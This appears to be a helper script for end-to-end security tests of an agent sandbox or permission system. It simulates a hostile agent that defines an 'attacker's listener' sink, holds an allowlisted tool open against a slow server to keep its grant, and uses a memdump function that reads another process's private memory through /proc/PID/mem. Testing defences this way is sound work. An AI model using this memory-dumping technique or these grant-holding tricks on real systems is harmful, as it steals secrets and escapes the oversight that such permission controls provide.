# Sourced by every attack case (tests/e2e/lib/agent_attacks.sh): helpers an
# agent would write for itself. Runs as the agent's user, in the case's
# own work folder.
export S="http://127.0.0.1:$E2E_SINK" # the attacker's listener
A="http://127.0.0.1:$E2E_AP"       # the real service (auth server)
W="http://127.0.0.1:$E2E_SLOW/slow" # a slow service: keeps a tool running
GURL="http://127.0.0.1:$E2E_GP/git/repo.git"

# slow_tool CMD...: starts an allowlisted tool against the slow server in
# the background and waits until it has had time to get its grant. Sets TOOL.
slow_tool() {
    "$@" >tool.out 2>tool.err </dev/null &
    TOOL=$!
    sleep "${SLOW_WAIT:-1.5}"
    echo "tool pid $TOOL state $(cut -d' ' -f3 /proc/$TOOL/stat 2>/dev/null)"
}
stop_tool() { kill "$TOOL" 2>/dev/null; wait "$TOOL" 2>/dev/null; true; }

# memdump PID FILE: every readable private mapping of PID, through
# /proc/PID/mem (what a same-uid process may do to a dumpable process).
memdump() {
    python3 - "$1" "$2" <<'PY'
import re, sys
pid, out = sys.argv[1], sys.argv[2]
n = 0
try:
    maps = open("/proc/%s/maps" % pid).read().splitlines()
    mem = open("/proc/%s/mem" % pid, "rb", 0)
except OSError as e:
    print("memdump:", e); sys.exit(0)
with open(out, "wb") as f:
    for line in maps:
        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) (r.)(.)p", line)
        if not m or "[vvar]" in line or "[vsyscall]" in line:
            continue
        lo, hi = int(m.group(1), 16), int(m.group(2), 16)
        if hi - lo > 64 << 20:
            continue
        try:
            mem.seek(lo); f.write(mem.read(hi - lo)); n += hi - lo
        except OSError:
            pass
print("memdump: %d bytes read" % n)
PY
}
